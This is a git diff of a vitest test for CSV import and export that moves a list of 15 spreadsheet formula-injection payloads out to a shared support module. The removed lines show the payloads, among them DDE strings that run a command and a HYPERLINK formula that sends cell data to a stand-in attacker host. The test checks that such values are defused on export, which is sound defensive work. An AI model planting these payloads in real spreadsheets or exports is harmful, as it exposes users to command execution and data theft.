@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { parse } from "csv-parse/sync";
 import { dbKinds } from "../support/databases.js";
+import { formulaPayloads } from "../support/csv-payloads.js";
 import { startTestServer, type TestServer } from "../support/test-server.js";
 import { expectEventually } from "../support/eventually.js";
 
@@ -177,23 +178,7 @@ describe.each(dbKinds)("CSV import and export on %s", (db) => {
   });
 
   it("defuses the 15 classic formula payloads on export and imports them back unchanged", async () => {
-    const payloads = [
-      "=1+1",
-      "=cmd|' /C calc'!A0",
-      '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
-      "@SUM(1+1)*cmd|' /C calc'!A0",
-      "+1+1",
-      "-1+1",
-      "+ 1+1",
-      "- 2+3",
-      "+(1+1)",
-      "-(2*3)+cmd|' /C calc'!A0",
-      "+41-cmd|' /C calc'!A0",
-      "-2+3+cmd|' /C calc'!A0",
-      "\uFF1D1+1",
-      "\uFF0Bcmd|' /C calc'!A0",
-      "\uFF20SUM(1+1)",
-    ];
+    const payloads = formulaPayloads;
     const ids: number[] = [];
     for (const [i, p] of payloads.entries()) {
       const c = await s.api("POST", "/api/clients", { token: agent, body: { name: `Payload ${p}`, company: p, notes: `${p}\n\tsecond line`, phones: [`+1 415 555 02${String(i).padStart(2, "0")}`] } });
